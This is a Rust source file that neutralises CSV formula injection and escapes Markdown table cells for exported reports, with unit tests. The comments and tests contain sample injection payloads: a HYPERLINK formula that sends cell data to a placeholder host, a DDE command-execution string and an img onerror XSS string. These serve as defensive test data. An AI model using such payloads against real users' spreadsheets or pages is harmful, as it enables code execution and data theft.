//! Cells for people: what spotcheck writes into CSV files and Markdown that officials open in
//! Excel, WPS or a Markdown viewer.
//!
//! Names and items come from labs and ledgers, so any of them can be hostile: a unit named
//! `=HYPERLINK("http://…"&A2,"click")` or `-2+3+cmd|' /C calc'!A0` becomes a live formula when a
//! CSV is opened in a spreadsheet. OWASP's rule for CSV injection: a cell that begins with `=`,
//! `+`, `-`, `@`, a tab or a carriage return is written with a leading `'`, which spreadsheets
//! show as text. Plain numbers (`-3`, `+2.5`) are left as they are. Exports meant for machines
//! (`--raw`, `raw=true`) keep the text untouched.

use std::borrow::Cow;

/// `text` as a spreadsheet shows it: never a formula.
pub fn spreadsheet_text(text: &str) -> Cow<'_, str> {
    let risky = text
        .chars()
        .next()
        .is_some_and(|c| matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r'));
    if risky && text.trim().parse::<f64>().is_err() {
        Cow::Owned(format!("'{text}"))
    } else {
        Cow::Borrowed(text)
    }
}

/// `text` as one cell of a Markdown table: HTML and Markdown markup are shown, not rendered,
/// and a `|` or a line break cannot end the cell.
pub fn markdown_text(text: &str) -> String {
    let html_safe = crate::svg::escape(text);
    let mut out = String::with_capacity(html_safe.len());
    for c in html_safe.chars() {
        match c {
            '\n' | '\r' => out.push(' '),
            '|' | '\\' | '`' | '*' | '_' | '[' | ']' | '#' | '!' => {
                out.push('\\');
                out.push(c);
            }
            c if c.is_control() => out.push(' '),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text_and_numbers_and_names_stay() {
        assert_eq!(
            spreadsheet_text("=HYPERLINK(\"http://x\"&A2,\"click\")"),
            "'=HYPERLINK(\"http://x\"&A2,\"click\")"
        );
        assert_eq!(
            spreadsheet_text("-2+3+cmd|' /C calc'!A0"),
            "'-2+3+cmd|' /C calc'!A0"
        );
        for risky in ["@SUM(1)", "+1+1", "\t=1", "\r=1"] {
            assert!(spreadsheet_text(risky).starts_with('\''), "{risky:?}");
        }
        for kept in ["-3", "+2.5", "某某燃气具有限公司", "", "3-2"] {
            assert_eq!(spreadsheet_text(kept), kept);
        }
    }

    #[test]
    fn markup_in_a_markdown_cell_is_shown_not_run() {
        assert_eq!(
            markdown_text("<img src=x onerror=alert(1)>|[a](javascript:x)\n*b*"),
            "&lt;img src=x onerror=alert(1)&gt;\\|\\[a\\](javascript:x) \\*b\\*"
        );
        assert_eq!(markdown_text("燃气灶 A-1"), "燃气灶 A-1");
    }
}
